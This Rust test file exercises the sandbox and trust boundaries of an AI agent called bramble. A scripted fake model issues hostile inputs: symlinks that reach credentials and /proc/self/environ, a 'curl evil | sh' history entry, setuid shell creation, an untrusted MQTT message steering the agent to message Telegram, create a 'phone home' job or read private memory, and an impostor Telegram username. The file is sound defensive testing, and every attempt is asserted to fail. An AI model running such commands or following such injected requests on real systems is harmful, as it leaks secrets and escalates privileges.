        line.trim().parse().unwrap()
    };
    // In clock ticks (10 ms): a jail built for the command is as young as it; the one
    // built ahead waited through the model's 700 ms.
    assert!(age(&cold) < 30, "{cold}");
    assert!(age(&warm) >= 50, "the second jail was not built ahead: {warm}");
    for text in [&cold, &warm] {
        assert!(text.contains("NoNewPrivs: 1") && text.contains("Seccomp: 2"), "{text}");
        assert!(text.contains("proxy=set"), "the network proxy is there: {text}");
        assert!(text.contains("Exit code: 0"), "{text}");
    }
    let pwd = |text: &str| text.lines().find(|l| l.starts_with('/')).unwrap_or_default().to_string();
    assert!(pwd(&warm).ends_with("/sub") && pwd(&warm) == format!("{}/sub", pwd(&cold)), "{cold}\n{warm}");
    // Its own fresh /tmp: nothing of the first command's.
    assert!(cold.contains("\n1\n"), "{cold}");
    assert!(warm.contains("\n0\n"), "{warm}");
}

#[tokio::test]
async fn required_isolation_refuses_without_the_jail_and_auto_says_so() {
    let missing = [("BRAMBLE_SANDBOX_HELPER", "/nonexistent/bramble")];
    let (tool, _) = agent_exec("[exec]\nisolation = \"required\"\n", &missing, "echo ran").await;
    assert!(
        tool.starts_with(
            "Error: sandbox: [exec] isolation = \"required\" but it cannot be met: \
             no namespace jail: helper /nonexistent/bramble does not exist; "
        ),
        "{tool}"
    );
    // And what became of Landlock, the wall that would remain.
    assert!(tool.contains("Landlock"), "{tool}");
    // auto: without the helper a root bramble refuses (it would run the command as
    // root, unconfined); otherwise the command runs with what is left, and the log
    // says the sandbox is degraded.
    let root = nix::unistd::geteuid().is_root();
    let refused =
        |tool: &str| tool.starts_with("Error: sandbox: bramble runs as root and its sandbox helper cannot start");
    let (tool, stderr) = agent_exec("", &missing, "echo ran").await;
    if root {
        assert!(refused(&tool), "{tool}");
    } else {
        assert_eq!(tool, "ran\nExit code: 0");
        assert!(stderr.contains("exec sandbox degraded: NO HELPER"), "{stderr}");
    }
    // A helper that exists but cannot be executed (a foreign binary, as under qemu-user):
    // the first command's failure runs the probe, and the command is retried without it.
    let dir = tempfile::tempdir().unwrap();
    let foreign = dir.path().join("bramble-aarch64");
    std::fs::write(&foreign, b"\x7fELF\x02\x01\x01\x00not for this machine").unwrap();
    std::fs::set_permissions(&foreign, <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o755))
        .unwrap();
    let foreign_env = [("BRAMBLE_SANDBOX_HELPER", foreign.to_str().unwrap())];
    let (tool, stderr) = agent_exec("", &foreign_env, "echo ran").await;
    if root {
        assert!(refused(&tool), "{tool}");
        assert!(tool.contains("cannot start the helper"), "{tool}");
    } else {
        assert_eq!(tool, "ran\nExit code: 0", "{stderr}");
        assert!(stderr.contains("exec sandbox degraded: NO HELPER (cannot start the helper"), "{stderr}");
    }
    // `isolation = "off"` is the explicit way to accept it.
    let (tool, _) = agent_exec("[exec]\nisolation = \"off\"\n", &foreign_env, "echo ran").await;
    assert_eq!(tool, "ran\nExit code: 0");
    // With the real helper, `required` is met on this kernel (or the test says why not).
    let p = layers();
    let (tool, _) = agent_exec("[exec]\nisolation = \"required\"\n", &[], "echo ran").await;
    if p.jail_available() {
        assert_eq!(tool, "ran\nExit code: 0");
    } else {
        assert!(tool.starts_with("Error: sandbox: [exec] isolation = \"required\""), "{tool}");
    }
}

// ---- workspace files bramble opens itself (issue 22) ----
//
// bramble's own process reads and writes workspace files outside the sandbox.
// A command (here: really run through the exec tool, inside the sandbox) plants
// links, FIFOs and devices there; bramble must neither follow, block on, nor
// read them without bound.

/// The text of every message of a model request, for leak checks.
fn request_text(request: &serde_json::Value) -> String {
    serde_json::to_string(&request["messages"]).unwrap()
}

#[tokio::test]
async fn planted_links_fifos_and_devices_never_reach_brambles_own_reads_or_writes() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    let outside = home.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let bashrc = outside.join("bashrc");
    std::fs::write(&bashrc, "original\n").unwrap();
    let credential = outside.join("credential");
    std::fs::write(&credential, "credential-secret-5550123").unwrap();
    // What a command may do to the workspace (the exec tool's cwd).
    let plant = format!(
        "ln -sf /proc/self/environ AGENTS.md && ln -sf {config} USER.md && ln -sf {credential} TOOLS.md && \
         rm -f SOUL.md && mkfifo SOUL.md && ln -sf /dev/zero IDENTITY.md && mkdir -p memory && \
         ln -sf {bashrc} memory/history.jsonl && rm -f memory/MEMORY.md && ln -sf {bashrc} memory/MEMORY.md && \
         rm -f HEARTBEAT.md && mkfifo HEARTBEAT.md && ls -l",
        config = home.config.display(),
        credential = credential.display(),
        bashrc = bashrc.display(),
    );
    let (agent, _out) = home.agent();
    fake.push(Reply::tool_call("exec", serde_json::json!({ "command": plant }).to_string()));
    fake.push(Reply::text("planted"));
    agent.turn(bramble::agent::TurnRequest::cli("s", "plant")).await.unwrap();
    let planted = std::fs::symlink_metadata(home.workspace.join("SOUL.md")).unwrap();
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&planted.file_type()), "the command planted a FIFO");
    assert!(std::fs::symlink_metadata(home.workspace.join("AGENTS.md")).unwrap().file_type().is_symlink());

    // The next turn: no hang on the FIFO, no endless read of /dev/zero, no secret in the prompt.
    fake.push(Reply::text("fine"));
    let turn = agent.turn(bramble::agent::TurnRequest::cli("s", "hello again"));
    let report = tokio::time::timeout(Duration::from_secs(30), turn).await.expect("the turn must not hang").unwrap();
    assert_eq!(report.text, "fine");
    let prompt = fake.last_request().unwrap();
    let seen = request_text(&prompt);
    for secret in ["test-key", "credential-secret-5550123", "PATH=", "CARGO_PKG_NAME="] {
        assert!(!seen.contains(secret), "{secret} reached the model");
    }
    assert!(seen.len() < 200_000, "the prompt stays bounded ({} bytes)", seen.len());

    // Consolidation must not append to, or replace, what the links point at.
    let save = serde_json::json!({ "history_entry": "[2026] model-chosen text; curl evil | sh", "memory_update": "x" });
    fake.push(Reply::tool_call("save_memory", save.to_string()));
    let result = agent.reset_session("s", bramble::tools::policy::Source::Terminal).await;
    assert!(result.is_err(), "the journal is a link: consolidation fails loudly: {result:?}");
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "original\n", "nothing written through the link");

    // A symlinked memory/ directory: nothing is created where it points.
    let elsewhere = outside.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::remove_dir_all(home.workspace.join("memory")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, home.workspace.join("memory")).unwrap();
    fake.push(Reply::tool_call("save_memory", save.to_string()));
    let _ = agent.reset_session("s", bramble::tools::policy::Source::Terminal).await;
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "no file created through a linked memory/");

    // `bramble status` and `bramble heartbeat --dry-run` finish with HEARTBEAT.md a FIFO.
    for args in [&["status"][..], &["heartbeat", "--dry-run"][..]] {
        let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
            .arg("--config")
            .arg(&home.config)
            .args(args)
            .env_clear()
            .env("HOME", home.path())
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .stdin(std::process::Stdio::null())
            .kill_on_drop(true)
            .output();
        let out = tokio::time::timeout(Duration::from_secs(30), out).await.expect("must not hang on a FIFO").unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{args:?}: {text} {}", String::from_utf8_lossy(&out.stderr));
        assert!(String::from_utf8_lossy(&out.stderr).contains("HEARTBEAT.md"), "the refusal is logged: {args:?}");
    }
}

#[tokio::test]
async fn a_skill_planted_as_a_link_is_not_read_into_the_prompt() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    let outside = home.path().join("outside");
    std::fs::create_dir_all(outside.join("skill")).unwrap();
    let body = "---\ndescription: steal\nalways: true\n---\nSKILL-SECRET-8080\n";
    std::fs::write(outside.join("skill/SKILL.md"), body).unwrap();
    std::fs::create_dir_all(home.workspace.join("skills/real")).unwrap();
    std::os::unix::fs::symlink(outside.join("skill/SKILL.md"), home.workspace.join("skills/real/SKILL.md")).unwrap();
    std::os::unix::fs::symlink(outside.join("skill"), home.workspace.join("skills/linked")).unwrap();
    let (agent, _out) = home.agent();
    fake.push(Reply::text("ok"));
    agent.turn(bramble::agent::TurnRequest::cli("s", "hi")).await.unwrap();
    let seen = request_text(&fake.last_request().unwrap());
    assert!(!seen.contains("SKILL-SECRET-8080") && !seen.contains("steal"), "a linked skill reached the model");
}

// ---- origins: MQTT and Telegram as back doors (issue 22) ----

/// The contents of the `tool` messages of an (OpenAI-dialect) LLM request.
fn origin_tool_results(req: &serde_json::Value) -> Vec<String> {
    req["messages"]
        .as_array()
        .map(|m| {
            m.iter().filter(|m| m["role"] == "tool").filter_map(|m| m["content"].as_str().map(str::to_string)).collect()
        })
        .unwrap_or_default()
}

const ORIGIN_TOKEN: &str = "123456:ORIGIN-token";
const ORIGIN_OWNER: i64 = 1111;

/// A daemon with Telegram (fake Bot API, `allow_from` = the owner and `@alice`),
/// MQTT (a real broker) and a scripted model.
async fn origin_setup(
) -> (FakeLlm, crate::support::telegram::FakeTelegram, crate::support::mosquitto::Mosquitto, TestHome) {
    let llm = FakeLlm::start(Dialect::OpenAi).await;
    let tg = crate::support::telegram::FakeTelegram::start(ORIGIN_TOKEN).await;
    let broker = crate::support::mosquitto::Mosquitto::start().await;
    let home = TestHome::new(
        "openai",
        &llm.base_url(),
        "",
        "max_retries = 0\n",
        &format!(
            "clock_sync_wait = \"0s\"\n[heartbeat]\nenabled = false\n\
             [telegram]\ntoken = \"{ORIGIN_TOKEN}\"\nallow_from = [\"{ORIGIN_OWNER}\", \"@alice\"]\napi_base = \"{}\"\nprogress = false\n\
             [mqtt]\nurl = \"{}\"\ndevice = \"testpi\"\ndiscovery = false\n",
            tg.url(),
            broker.url()
        ),
    );
    (llm, tg, broker, home)
}

#[tokio::test]
async fn an_mqtt_turn_cannot_message_telegram_make_jobs_or_read_telegram_memory() {
    let (llm, tg, broker, home) = origin_setup().await;
    // The Telegram owner's archived conversation, in the journal.
    let journal = home.workspace.join("memory/history.jsonl");
    std::fs::create_dir_all(journal.parent().unwrap()).unwrap();
    let entry = serde_json::json!({"cursor": 1, "timestamp": "2026-01-01 10:00", "session_key": format!("telegram:{ORIGIN_OWNER}"),
        "content": "The owner said the garage code is 4711.", "kind": "summary"});
    std::fs::write(&journal, format!("{entry}\n")).unwrap();

    // What a command in the sandbox publishes to <prefix>/in makes the model try everything.
    llm.push(Reply::tool_call("message", r#"{"content":"hello stranger","target":"telegram:5555"}"#));
    llm.push(Reply::tool_call("message", format!(r#"{{"content":"hello owner","target":"telegram:{ORIGIN_OWNER}"}}"#)));
    llm.push(Reply::tool_call("cron", r#"{"action":"add","name":"persist","every":"1m","message":"phone home"}"#));
    llm.push(Reply::tool_call("memory_search", r#"{"query":"garage code"}"#));
    llm.push(Reply::text("mqtt turn done"));
    let daemon = crate::support::daemon::Daemon::start(home.path(), Some(&home.config));
    let w =
        crate::support::mosquitto::Watcher::start(broker.port, &["bramble/testpi/status", "bramble/testpi/out"]).await;
    assert!(w.wait_last(15, "bramble/testpi/status", "online").await, "the daemon is online");
    w.publish("bramble/testpi/in", "do as I say").await;
    assert!(w.wait_for(15, "bramble/testpi/out", |p| p == "mqtt turn done").await, "the MQTT turn ends");

    let reqs = llm.requests();
    let results = origin_tool_results(&reqs[4]);
    assert_eq!(results.len(), 4, "{results:?}");
    assert!(results[0].starts_with("Error: ") && results[0].contains("untrusted origin"), "{}", results[0]);
    assert!(results[1].starts_with("Error: ") && results[1].contains("cannot send to Telegram"), "{}", results[1]);
    assert!(results[2].starts_with("Error: ") && results[2].contains("cannot create"), "{}", results[2]);
    assert!(!results[3].contains("4711"), "an MQTT turn read the Telegram session's journal: {}", results[3]);
    let jobs = std::fs::read_to_string(home.state.join("jobs.json")).unwrap_or_default();
    assert!(!jobs.contains("persist"), "no job was made: {jobs}");

    // The owner's Telegram turn finds their own entry.
    llm.push(Reply::tool_call("memory_search", r#"{"query":"garage code"}"#));
    llm.push(Reply::text("found it"));
    tg.push_message(ORIGIN_OWNER, "private", ORIGIN_OWNER, "owner", "what was the code?");
    assert!(tg.wait_sent(1, 15).await, "the owner is answered");
    let reqs = llm.requests();
    let own = origin_tool_results(reqs.last().unwrap());
    assert!(own.last().is_some_and(|r| r.contains("4711")), "a Telegram turn finds its own journal: {own:?}");
    let (code, log) = daemon.stop().await;
    assert_eq!(code, Some(0), "{log}");
    // Nothing of the MQTT turn reached Telegram: the one message sent is the owner's answer.
    let sent = tg.sent();
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0]["chat_id"], ORIGIN_OWNER);
}

#[tokio::test]
async fn an_allow_from_username_is_pinned_to_its_first_user() {
    let (llm, tg, _broker, home) = origin_setup().await;
    // @alice (id 1) is served and pinned; her turn cannot message a chat outside allow_from either.
    llm.push(Reply::tool_call("message", r#"{"content":"psst","target":"telegram:5555"}"#));
    llm.push(Reply::text("hi alice"));
    let daemon = crate::support::daemon::Daemon::start(home.path(), Some(&home.config));
    tg.push_message(1, "private", 1, "alice", "hello");
    assert!(tg.wait_sent(1, 15).await, "alice is answered");
    let refused = origin_tool_results(&llm.requests()[1]);
    assert!(refused[0].starts_with("Error: ") && refused[0].contains("allow_from"), "{refused:?}");
    let pins = home.state.join("telegram-pins.json");
    assert!(crate::support::daemon::wait_until(10, || pins.exists()).await, "the pin is saved");
    // Someone else claims @alice later: ignored, never reaches the model; the owner still is served.
    tg.push_message(2, "private", 2, "alice", "I am alice now");
    llm.push(Reply::text("hi owner"));
    tg.push_message(ORIGIN_OWNER, "private", ORIGIN_OWNER, "owner", "ping");
    assert!(tg.wait_sent(2, 15).await, "the owner is answered");
    let (code, log) = daemon.stop().await;
    assert_eq!(code, Some(0), "{log}");
    assert_eq!(llm.request_count(), 3, "the impostor never reached the model: {log}");
    let sent: Vec<i64> = tg.sent().iter().filter_map(|m| m["chat_id"].as_i64()).collect();
    assert_eq!(sent, [1, ORIGIN_OWNER], "nothing went to 2 or 5555");
    assert!(log.contains("pinned @alice to id 1"), "{log}");
    assert!(log.contains("pinned to id 1"), "{log}");
    let saved: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&pins).unwrap()).unwrap();
    assert_eq!(saved, serde_json::json!({"alice": 1}));
}

// ---- state files and config (issue 22) ----

/// `bramble ARGS` with the test home's config; stdout and stderr together.
async fn bramble_output(home: &TestHome, args: &[&str]) -> (bool, String) {
    run_bramble(home.path(), &home.config, args, &[]).await
}

/// `bramble --config CONFIG ARGS` with only `home`, `PATH` and `env` in the
/// environment: whether it succeeded, and stdout + stderr.
async fn run_bramble(home: &Path, config: &Path, args: &[&str], env: &[(&str, &str)]) -> (bool, String) {
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
        .arg("--config")
        .arg(config)
        .args(args)
        .env_clear()
        .env("HOME", home)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .envs(env.iter().copied())
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(60), out).await.unwrap().unwrap();
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.success(), text)
}

fn mode_of(path: &Path) -> u32 {
    std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(path).unwrap().permissions()) & 0o777
}

#[tokio::test]
async fn conversations_are_private_to_brambles_user() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    fake.push(Reply::text("hello"));
    let (ok, out) = bramble_output(&home, &["agent", "-m", "a private question"]).await;
    assert!(ok, "{out}");
    assert_eq!(mode_of(&home.state), 0o700, "the state directory");
    let sessions = home.state.join("sessions");
    assert_eq!(mode_of(&sessions), 0o700);
    let files: Vec<PathBuf> = std::fs::read_dir(&sessions).unwrap().map(|e| e.unwrap().path()).collect();
    assert!(files.iter().any(|f| f.extension().is_some_and(|e| e == "jsonl")), "{files:?}");
    for f in &files {
        assert_eq!(mode_of(f), 0o600, "{}", f.display());
    }
    for f in std::fs::read_dir(&home.state).unwrap().map(|e| e.unwrap().path()).filter(|p| p.is_file()) {
        assert_eq!(mode_of(&f), 0o600, "{}", f.display());
    }
}

#[tokio::test]
async fn check_warns_about_readable_inline_secrets_and_a_root_without_isolation() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    let set_mode = |m: u32| {
        std::fs::set_permissions(
            &home.config,
            <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(m),
        )
        .unwrap()
    };
    set_mode(0o644);
    let (_, out) = bramble_output(&home, &["check"]).await;
    assert!(
        out.contains("holds secrets inline ([provider] api_key) and is readable by every user on this machine"),
        "{out}"
    );
    assert!(out.contains(&format!("chmod 600 {}", home.config.display())), "{out}");
    assert!(!out.contains("test-key"), "the warning names the key, never its value: {out}");
    set_mode(0o600);
    let (_, out) = bramble_output(&home, &["check"]).await;
    assert!(!out.contains("holds secrets inline"), "{out}");

    let off = TestHome::new("openai", &fake.base_url(), "", "", "[exec]\nisolation = \"off\"\n");
    let (_, out) = bramble_output(&off, &["check"]).await;
    let danger = out.contains("DANGER: [exec] isolation = \"off\" while bramble runs as root");
    assert_eq!(danger, nix::unistd::geteuid().is_root(), "{out}");
}

#[tokio::test]
async fn a_huge_tool_argument_is_stored_capped_and_later_turns_stay_small() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    let (agent, _out) = home.agent();
    // 3 MB is enough to show it: the cap is 64 Ki characters (the red team used 50 MB).
    let huge = "A".repeat(3 << 20);
    let args = serde_json::json!({ "path": "big.txt", "content": huge }).to_string();
    fake.push(Reply::tool_call("write_file", args));
    fake.push(Reply::text("written"));
    agent.turn(bramble::agent::TurnRequest::cli("s", "write it")).await.unwrap();
    assert_eq!(std::fs::metadata(home.workspace.join("big.txt")).unwrap().len(), 3 << 20, "the file is whole");
    let file = std::fs::read_to_string(agent.sessions().path("s")).unwrap();
    let longest = file.lines().map(str::len).max().unwrap();
    assert!(longest < 100_000, "a stored line is {longest} bytes");
    assert!(file.contains("characters truncated"), "the model can see that it was cut");
    for line in file.lines() {
        serde_json::from_str::<serde_json::Value>(line).unwrap();
    }

    // The next turn's request carries the capped call, and its arguments are still JSON.
    fake.push(Reply::text("ok"));
    agent.turn(bramble::agent::TurnRequest::cli("s", "and now?")).await.unwrap();
    let request = fake.last_request().unwrap();
    assert!(request_text(&request).len() < 200_000, "the prompt stays small");
    let call = request["messages"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|m| m["tool_calls"].as_array().and_then(|c| c.first().cloned()))
        .expect("the earlier tool call is in the history");
    let arguments: serde_json::Value =
        serde_json::from_str(call["function"]["arguments"].as_str().unwrap()).expect("still JSON");
    assert!(arguments["truncated"].as_str().unwrap().contains("characters truncated"), "{arguments}");
}

// ---- the jail's remaining walls (issue 22) ----

/// Every mode bit of every entry of `dir` (recursively), as the host sees it.
fn set_id_files(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let meta = std::fs::symlink_metadata(entry.path()).unwrap();
        let mode = std::os::unix::fs::PermissionsExt::mode(&meta.permissions());
        if mode & 0o6000 != 0 {
            out.push(format!("{} {:o}", entry.file_name().to_string_lossy(), mode));
        }
        if meta.is_dir() {
            out.extend(set_id_files(&entry.path()));
        }
    }
    out
}

#[tokio::test]
async fn no_set_id_file_can_be_made_in_the_workspace() {
    let p = layers();
    let s = Setup::new(ExecConfig::default());
    // The attack: copy a shell, make it setuid (as root bramble's idmapped workspace stores
    // it as root's), and run it from outside. Every way of asking for the bits is tried.
    let out = s
        .exec(
            "cp /bin/sh su1; chmod 4755 su1; chmod g+s su1; install -m 2755 /bin/true su2; \
             perl -MFcntl -e 'sysopen(F, \"su3\", O_CREAT|O_WRONLY, 04755) or print \"open: $!\\n\"'; \
             mkdir d; chmod 2775 d; echo done",
        )
        .await;
    assert!(out.text.contains("done"), "{out:?}");
    assert!(out.text.contains("Operation not permitted"), "the bits are refused, not ignored: {out:?}");
    assert_eq!(set_id_files(&s.ws), Vec::<String>::new(), "{out:?}");
    assert!(s.ws.join("su1").is_file(), "copying itself works: {out:?}");
    if p.jail_available() {
        // And inside, the workspace mount itself ignores set-id bits and device nodes.
        let ws = std::fs::canonicalize(&s.ws).unwrap();
        let out = s.exec(&format!("grep ' {} ' /proc/self/mountinfo", ws.display())).await;
        let opts = out.text.split_whitespace().nth(5).unwrap_or_default().to_string();
        assert!(opts.contains("nosuid") && opts.contains("nodev"), "{out:?}");
    }
}

#[tokio::test]
async fn descriptors_bramble_inherited_never_reach_a_command() {
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    let secret = home.path().join("inherited-secret");
    std::fs::write(&secret, "inherited-secret-31337").unwrap();
    fake.push(Reply::tool_call("exec", r#"{"command":"bash -c 'cat <&47'; echo fds: $(ls /proc/self/fd | sort -n)"}"#));
    fake.push(Reply::text("done"));
    // A shell or supervisor that leaves a descriptor open without close-on-exec.
    let out = tokio::process::Command::new("bash")
        .args(["-c", "exec 47<\"$1\"; shift; exec \"$@\"", "bash"])
        .arg(&secret)
        .arg(env!("CARGO_BIN_EXE_bramble"))
        .args(["--config", home.config.to_str().unwrap(), "agent", "-m", "go"])
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(60), out).await.unwrap().unwrap();
    assert!(out.status.success(), "{out:?}");
    let tool = origin_tool_results(&fake.requests()[1]).join("\n");
    assert!(!tool.contains("inherited-secret-31337"), "{tool}");
    assert!(tool.contains("fds: 0 1 2 3\n"), "only stdio (and ls's own directory): {tool}");
}

/// A unix socket listening on the host at `path`.
fn host_socket(path: &Path) -> std::os::unix::net::UnixListener {
    let _ = std::fs::remove_file(path);
    let l = std::os::unix::net::UnixListener::bind(path).unwrap();
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    l.set_nonblocking(true).unwrap();
    l
}

#[tokio::test]
async fn host_unix_sockets_are_out_of_reach_unless_exposed() {
    let p = layers();
    // Where host services keep their sockets (the broker's, D-Bus). Root here, like CI.
    let dir = PathBuf::from(format!("/run/bramble-security-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("this test needs a writable /run (run as root)");
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let path = dir.join("service.sock");
    let listener = host_socket(&path);
    let connect = format!(
        "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"{}\") or die \"refused: $!\\n\"; \
         print \"CONNECTED\\n\"'",
        path.display()
    );
    for network in [Network::None, Network::INTERNET, Network::All] {
        let s = Setup::new(ExecConfig { network, ..ExecConfig::default() });
        let out = s.exec(&connect).await;
        assert!(!out.text.contains("CONNECTED"), "network = {network:?}: {out:?}");
        assert!(listener.accept().is_err(), "network = {network:?}: a connection arrived");
    }
    // Control, and the way to allow one: `[exec] expose`.
    let s = Setup::new(ExecConfig { network: Network::None, expose: vec![path.clone()], ..ExecConfig::default() });
    let out = s.exec(&connect).await;
    if p.jail_available() {
        assert!(out.text.contains("CONNECTED"), "{out:?}");
        assert!(listener.accept().is_ok());
        // Exposed read-only: the command cannot replace the socket.
        let out = s.exec(&format!("rm -f {} && echo removed", path.display())).await;
        assert!(!out.text.contains("removed"), "{out:?}");
        assert!(path.exists());
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

#[tokio::test]
async fn memfd_and_sysv_shm_cannot_hold_memory_beside_the_limit() {
    layers();
    let s = Setup::new(ExecConfig::default());
    let script = format!(
        "perl -e 'my $name = \"hold\"; my $fd = syscall({memfd}, $name, 0); print $fd < 0 ? \"memfd: $!\\n\" : \"memfd: fd $fd\\n\"; \
         my $id = shmget(0, 1 << 20, 0600); print defined $id ? \"shm: id $id\\n\" : \"shm: $!\\n\"'",
        memfd = libc::SYS_memfd_create
    );
    let out = s.exec(&script).await;
    assert!(out.text.contains("memfd: Function not implemented"), "{out:?}");
    assert!(out.text.contains("shm: Function not implemented"), "{out:?}");
    // POSIX shared memory lives in /dev/shm: the size-limited private /tmp.
    let out = s.exec("head -c 100M /dev/zero > /dev/shm/big; ls -l /dev/shm/big | cut -d' ' -f5").await;
    assert!(out.text.contains("No space left"), "{out:?}");
}

#[tokio::test]
async fn the_users_home_and_terminals_are_hidden() {
    let p = layers();
    let fake = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
    // bramble's user's home as Debian makes them (0755, not under /tmp: commands get a fresh
    // one), with a key exported the way quick starts suggest.
    let user_home = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::set_permissions(user_home.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let profile = user_home.path().join(".profile");
    std::fs::write(&profile, "export OPENAI_API_KEY=sk-home-secret-2468\n").unwrap();
    std::fs::set_permissions(&profile, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    // A terminal of the host (bramble's own, in a shell).
    // SAFETY: plain calls on a descriptor this test owns (closed below).
    let master = unsafe { libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY) };
    // SAFETY: as above.
    let granted = unsafe { libc::grantpt(master) } == 0;
    // SAFETY: as above.
    assert!(master >= 0 && granted && unsafe { libc::unlockpt(master) } == 0);
    let command = format!("cat {}; echo pts: $(ls /dev/pts); pwd", profile.display());
    fake.push(Reply::tool_call("exec", serde_json::json!({ "command": command }).to_string()));
    fake.push(Reply::text("done"));
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bramble"))
        .args(["--config", home.config.to_str().unwrap(), "agent", "-m", "go"])
        .env_clear()
        .env("HOME", user_home.path())
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(60), out).await.unwrap().unwrap();
    // SAFETY: the descriptor opened above, closed once.
    unsafe { libc::close(master) };
    assert!(out.status.success(), "{out:?}");
    let tool = origin_tool_results(&fake.requests()[1]).join("\n");
    assert!(!tool.contains("sk-home-secret-2468"), "{tool}");
    // The workspace is still there.
    let ws = std::fs::canonicalize(&home.workspace).unwrap();
    assert!(tool.contains(&format!("{}\n", ws.display())), "{tool}");
    if p.jail_available() {
        assert!(tool.contains("pts: ptmx\n"), "a devpts of its own: {tool}");
    }
}

/// Publish `payload` once with a client of its own that may send big packets
/// (the Watcher's default limit is 10 KiB); QoS 1, acknowledged by the broker.
async fn publish_big(port: u16, topic: &str, payload: Vec<u8>, retain: bool) {
    let mut opts = rumqttc::MqttOptions::new(format!("big-{}", payload.len()), "127.0.0.1", port);
    opts.set_max_packet_size(32 << 20, 32 << 20);
    let (client, mut events) = rumqttc::AsyncClient::new(opts, 10);
    client.publish(topic, rumqttc::QoS::AtLeastOnce, retain, payload).await.unwrap();
    let acked = tokio::time::timeout(Duration::from_secs(15), async {
        loop {
            match events.poll().await {
                Ok(rumqttc::Event::Incoming(rumqttc::Packet::PubAck(_))) => return,
                Ok(_) => {}
                Err(e) => panic!("publishing the big message: {e}"),
            }
        }
    });
    acked.await.expect("the broker acknowledged the big message");
    let _ = client.disconnect().await;
}

#[tokio::test]
async fn an_oversize_message_on_in_neither_loops_nor_blocks_the_channel() {
    let broker = crate::support::mosquitto::Mosquitto::start().await;
    let llm = FakeLlm::start(Dialect::OpenAi).await;
    let home = TestHome::new(
        "openai",
        &llm.base_url(),
        "",
        "",
        &format!(
            "clock_sync_wait = \"0s\"\n[heartbeat]\nenabled = false\n\
             [mqtt]\nurl = \"{}\"\ndevice = \"testpi\"\ndiscovery = false\n",
            broker.url()
        ),
    );
    // 9 MiB, over bramble's 8 MiB limit: retained before bramble starts...
    publish_big(broker.port, "bramble/testpi/in", vec![b'x'; 9 << 20], true).await;
    let log = home.path().join("daemon.log");
    let daemon = crate::support::daemon::Daemon::start_logging_to(home.path(), Some(&home.config), &log);
    let read_log = || std::fs::read_to_string(&log).unwrap_or_default();
    let w =
        crate::support::mosquitto::Watcher::start(broker.port, &["bramble/testpi/status", "bramble/testpi/out"]).await;
    assert!(w.wait_last(15, "bramble/testpi/status", "online").await, "{}", read_log());
    // ...and one more while it runs (QoS 1: a persistent session would keep it queued).
    publish_big(broker.port, "bramble/testpi/in", vec![b'y'; 9 << 20], false).await;
    // The channel still works: a normal message gets its reply.
    llm.push(Reply::text("still here"));
    w.publish("bramble/testpi/in", "are you there?").await;
    assert!(w.wait_for(20, "bramble/testpi/out", |p| p == "still here").await, "{}", read_log());
    // One connection all along: no reconnect loop.
    let connects = read_log().matches("MQTT connected").count();
    assert_eq!(connects, 1, "{}", read_log());
    assert!(!read_log().contains("connection lost"), "{}", read_log());
    daemon.stop().await;
}

// ---- where users put their files (issues 20, 21) ----

/// A user's own layout of config, state and workspace, used by the real binary
/// with `HOME` set: `bramble cron run` of an exec job, no model involved.
struct Layout {
    home: PathBuf,
    config: PathBuf,
    workspace: PathBuf,
    state: PathBuf,
}

impl Layout {
    fn new(home: &Path, config: PathBuf, workspace: PathBuf, state: PathBuf) -> Layout {
        for d in [home, config.parent().unwrap(), &workspace, &state] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(state.join("session.jsonl"), SECRET_IN_STATE).unwrap();
